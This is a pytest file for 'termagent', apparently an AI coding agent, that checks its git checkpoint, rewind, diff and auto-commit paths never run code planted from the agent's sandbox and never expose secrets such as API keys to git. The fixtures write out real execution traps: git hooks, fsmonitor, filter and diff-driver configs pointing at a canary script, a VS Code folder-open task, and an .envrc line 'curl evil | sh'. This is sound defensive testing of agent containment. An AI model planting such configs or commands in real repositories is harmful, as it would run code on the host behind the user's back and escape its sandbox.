"""Nothing the sandbox writes may run on the host: repositories planted inside the workspace
(a fresh `git init`, a submodule whose `.git` pointer was rewired) carry configs that would
run a program, and every host git path (checkpoint, rewind, status, diff, /diff, auto-commit)
must leave the canary uncreated. Also: git never sees termagent's own environment."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from termagent import gitsafe
from termagent.git import Checkpointer, auto_commit_turn, plan_rewind, rewind
from termagent.tools.git_tools import workspace_diff
from tests.test_checkpoints import git, make_repo
from tests.test_git_tools import call

SECRETS = {"ANTHROPIC_API_KEY": "sk-canary-secret", "GITHUB_TOKEN": "ghp-canary", "SSH_AUTH_SOCK": "/tmp/agent.sock"}


def evil_program(tmp: Path) -> Path:
    """A program that records that it ran (and with which environment), then acts as `cat`."""
    script = tmp / "evil.sh"
    script.write_text(f'#!/bin/sh\nenv > "{tmp}/canary-$$"\ncat\n')
    script.chmod(0o755)
    return script


def canaries(tmp: Path) -> list[str]:
    return sorted(p.name for p in tmp.glob("canary-*"))


def plant_config(git_dir: Path, work_tree: Path, program: Path) -> None:
    """Every config key of a nested repository that runs a program, selected by attributes."""
    hooks = git_dir / "evil-hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "post-checkout", "post-index-change", "fsmonitor-watchman"):
        (hooks / name).write_text(f"#!/bin/sh\n{program} </dev/null\n")
        (hooks / name).chmod(0o755)
    with (git_dir / "config").open("a") as config:
        config.write(f'[core]\n\tfsmonitor = "{program}"\n\thooksPath = "{hooks}"\n'
                     f'[filter "evil"]\n\tclean = "{program}"\n\tsmudge = "{program}"\n\trequired = true\n'
                     f'[diff "evil"]\n\ttextconv = "{program}"\n\tcommand = "{program}"\n'
                     f'[diff]\n\texternal = "{program}"\n')
    (work_tree / ".gitattributes").write_text("* filter=evil diff=evil\n")


def nested_repo(path: Path) -> Path:
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    (path / "f.txt").write_text("one\n")
    git(path, "add", "f.txt")
    git(path, "commit", "-q", "-m", "nested")
    return path


def touch_all(root: Path) -> None:
    """Same content, new mtime: git must re-hash, which is when a filter would run."""
    for path in root.rglob("*.txt"):
        os.utime(path, (path.stat().st_atime, path.stat().st_mtime + 5))


@pytest.fixture
def planted(tmp_path: Path) -> tuple[Path, Path]:
    """A workspace with an untracked planted repo, a planted repo inside a tracked directory,
    and a tracked submodule whose `.git` pointer now names a planted gitdir."""
    program = evil_program(tmp_path)
    repo = make_repo(tmp_path / "ws")
    sub = nested_repo(repo / "libs" / "sub")
    git(repo, "add", "libs/sub")
    (repo / "src").mkdir()
    (repo / "src" / "main.txt").write_text("main\n")
    git(repo, "add", "src")
    git(repo, "commit", "-q", "-m", "with submodule")
    checkpointer = Checkpointer(repo, "iso")
    checkpointer.snapshot_sync("before the sandbox ran")
    # what the sandbox does:
    fresh = nested_repo(repo / "vendor" / "x")
    plant_config(fresh / ".git", fresh, program)
    git(repo / "src", "init", "-q")
    plant_config(repo / "src" / ".git", repo / "src", program)
    planted_dir = repo / "build-out" / "gitdir"
    planted_dir.parent.mkdir()
    subprocess.run(["cp", "-r", str(sub / ".git"), str(planted_dir)], check=True)
    plant_config(planted_dir, sub, program)
    subprocess.run(["rm", "-rf", str(sub / ".git")], check=True)
    (sub / ".git").write_text(f"gitdir: {planted_dir}\n")
    (repo / "edit.txt").write_text("changed by the agent\n")
    touch_all(repo)
    return repo, tmp_path


def test_the_planted_repositories_do_run_a_program_under_plain_git(planted: tuple[Path, Path]) -> None:
    """Control: the traps are real, so the tests below can fail."""
    repo, tmp = planted
    subprocess.run(["git", "status"], cwd=repo, capture_output=True, check=False)
    subprocess.run(["git", "diff", "HEAD"], cwd=repo, capture_output=True, check=False)
    assert canaries(tmp)


async def test_checkpoint_and_rewind_never_enter_a_planted_repository(planted: tuple[Path, Path]) -> None:
    repo, tmp = planted
    checkpointer = Checkpointer(repo, "iso")
    assert checkpointer.snapshot_sync("after the sandbox ran") is not None
    tree = git(repo, "ls-tree", "-r", "refs/termagent/checkpoints/iso/2")
    assert "160000" not in tree and "vendor/x" not in tree and "src/" not in tree
    plan = plan_rewind(repo, "iso", 1)
    assert "edit.txt" in plan.modified
    rewind(repo, "iso", 1)
    touch_all(repo)
    checkpointer.snapshot_sync("again")
    assert canaries(tmp) == []
    assert (repo / "edit.txt").read_text() == "original\n"


async def test_status_diff_and_slash_diff_never_enter_a_planted_repository(planted: tuple[Path, Path]) -> None:
    repo, tmp = planted
    status = await call(repo, "git_status")
    diff = await call(repo, "git_diff")
    assert "edit.txt" in status.output and "changed by the agent" in diff.output
    assert "changed by the agent" in workspace_diff(repo, "HEAD")
    assert canaries(tmp) == []


def test_auto_commit_leaves_planted_repositories_out(planted: tuple[Path, Path]) -> None:
    repo, tmp = planted
    assert auto_commit_turn(repo, "agent turn") is not None
    assert canaries(tmp) == []
    committed = git(repo, "show", "--name-only", "--format=", "HEAD")
    assert "edit.txt" in committed and "vendor" not in committed


def test_git_sees_only_the_allowlisted_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What any program git started would inherit: our own `-c alias` prints it."""
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'core.fsmonitor=/bin/false'")
    repo = make_repo(tmp_path / "ws")
    argv = gitsafe.git_command(repo, "-c", "alias.showenv=!env", "showenv")
    seen = subprocess.run(argv, env=gitsafe.git_env(repo), capture_output=True, text=True, check=True).stdout
    names = {line.partition("=")[0] for line in seen.splitlines()}
    assert not names & set(SECRETS)
    assert "sk-canary-secret" not in seen and "ghp-canary" not in seen and "agent.sock" not in seen
    assert "core.fsmonitor=/bin/false" not in seen
    assert "PATH" in names and "GIT_CONFIG_GLOBAL" in names
    repo_obj = gitsafe.open_repo(repo)
    via_gitpython = repo_obj.git.execute(argv)
    assert "sk-canary-secret" not in via_gitpython and "ghp-canary" not in via_gitpython


def test_env_builder_is_an_allowlist(monkeypatch: pytest.MonkeyPatch) -> None:
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("GIT_DIR", "/elsewhere")
    env = gitsafe.base_env()
    assert not set(env) & (set(SECRETS) | {"GIT_DIR"})
    assert set(env) <= set(gitsafe.ENV_ALLOWLIST) | set(gitsafe.FIXED_ENV) | {"GIT_CONFIG_GLOBAL"}


def test_rewind_removes_and_restores_execution_bearing_paths_even_when_ignored(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "ws")
    (repo / ".gitignore").write_text("build/\n.vscode/\n.envrc\ntools/hooks/\n")
    git(repo, "config", "core.hooksPath", "tools/hooks")
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')
    sub = nested_repo(repo / "libs" / "sub")
    pointer_dir = tmp_path / "real-sub.git"
    subprocess.run(["mv", str(sub / ".git"), str(pointer_dir)], check=True)
    (sub / ".git").write_text(f"gitdir: {pointer_dir}\n")
    checkpointer = Checkpointer(repo, "ex")
    assert checkpointer.snapshot_sync("before the sandbox ran") is not None
    # what the sandbox does:
    (repo / ".vscode" / "settings.json").write_text('{"terminal.integrated.shellArgs.linux": ["-c", "evil"]}\n')
    (repo / ".vscode" / "tasks.json").write_text('{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n')
    (repo / ".envrc").write_text("curl evil | sh\n")
    (repo / "tools" / "hooks").mkdir(parents=True)
    (repo / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    nested_repo(repo / "vendor" / "x")
    (sub / ".git").write_text(f"gitdir: {tmp_path / 'planted'}\n")
    plan = plan_rewind(repo, "ex", 1)
    assert {".vscode/tasks.json", ".envrc", "tools/hooks/pre-commit"} <= set(plan.deleted)
    assert ".vscode/settings.json" in plan.modified
    assert plan.moved_aside == ("libs/sub", "vendor/x")
    rewind(repo, "ex", 1)
    assert (repo / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 4}\n'
    assert not (repo / ".vscode" / "tasks.json").exists() and not (repo / ".envrc").exists()
    assert not (repo / "tools" / "hooks" / "pre-commit").exists()
    assert not os.path.lexists(repo / "vendor" / "x" / ".git")
    assert list((repo / ".git" / "termagent" / "moved-aside").glob("*/vendor/x/.git/HEAD"))
    assert (sub / ".git").read_text() == f"gitdir: {pointer_dir}\n"


def test_oversized_files_stay_out_of_snapshots_with_a_warning_and_growth_is_reported(tmp_path: Path) -> None:
    from termagent.git.checkpoints import MIB, CheckpointLimits

    repo = make_repo(tmp_path / "ws")
    warnings: list[str] = []
    limits = CheckpointLimits(max_file_bytes=MIB, growth_warn_bytes=3 * MIB)
    checkpointer = Checkpointer(repo, "disk", on_warning=warnings.append, limits=limits)
    checkpointer.snapshot_sync("baseline")
    (repo / "dump.bin").write_bytes(b"\0" * (2 * MIB))
    (repo / "small.txt").write_text("small\n")
    checkpointer.snapshot_sync("with a dump")
    tree = git(repo, "ls-tree", "-r", "--name-only", checkpointer.last.commit)
    assert "small.txt" in tree and "dump.bin" not in tree
    assert any("dump.bin" in w and "1 MiB" in w for w in warnings)
    assert not any("grew" in w for w in warnings)
    for i in range(3):
        (repo / f"part{i}.bin").write_bytes(b"x" * (MIB - 1))
    checkpointer.snapshot_sync("more")
    assert any("grew by" in w for w in warnings)
    assert sum("dump.bin" in w for w in warnings) == 1


def test_old_sessions_are_pruned_but_the_persons_own_objects_stay(tmp_path: Path) -> None:
    import time

    from termagent.git.checkpoints import sessions_with_checkpoints
    from termagent.git.plumbing import repo_info
    from termagent.git.prune import prune_sessions

    repo = make_repo(tmp_path / "ws")
    for i in range(4):
        (repo / "edit.txt").write_text(f"version {i}\n")
        Checkpointer(repo, f"s{i}").snapshot_sync("x")
    (repo / "keep.txt").write_text("a stash the person dropped\n")
    dropped = git(repo, "stash", "create").strip()
    info = repo_info(repo)
    removed = prune_sessions(info, "s0", keep_sessions=2, keep_days=14)
    left = {s for s, _, _ in sessions_with_checkpoints(repo)}
    assert len(removed) == 2 and "s0" in left and len(left) == 2
    assert prune_sessions(info, "s0", keep_sessions=20, keep_days=14, now=time.time() + 15 * 86_400) == [*left - {"s0"}]
    assert [s for s, _, _ in sessions_with_checkpoints(repo)] == ["s0"]
    git(repo, "cat-file", "-e", dropped)


def test_the_running_session_takes_one_of_the_kept_places_even_when_its_checkpoints_are_oldest(tmp_path: Path) -> None:
    """keep_sessions=2 means two sessions in all: the running one and the newest other one."""
    from termagent.git.checkpoints import sessions_with_checkpoints
    from termagent.git.plumbing import repo_info
    from termagent.git.prune import prune_sessions
    from termagent.git.refs import REF_ROOT

    repo = make_repo(tmp_path / "ws")
    for i in range(4):
        (repo / "edit.txt").write_text(f"version {i}\n")
        Checkpointer(repo, f"s{i}").snapshot_sync("x")
    ref = f"{REF_ROOT}/s0/1"
    tree = git(repo, "rev-parse", f"{ref}^{{tree}}").strip()
    older = subprocess.run(["git", "commit-tree", tree, "-m", "[change] x"], cwd=repo, check=True, text=True,
                           capture_output=True, env={**os.environ, "GIT_COMMITTER_DATE": "@1000000000 +0000"}
                           ).stdout.strip()
    git(repo, "update-ref", ref, older)  # the running session s0 began long before the others
    removed = prune_sessions(repo_info(repo), "s0", keep_sessions=2, keep_days=1e6)
    left = {s for s, _, _ in sessions_with_checkpoints(repo)}
    assert len(removed) == 2 and "s0" in left and len(left) == 2
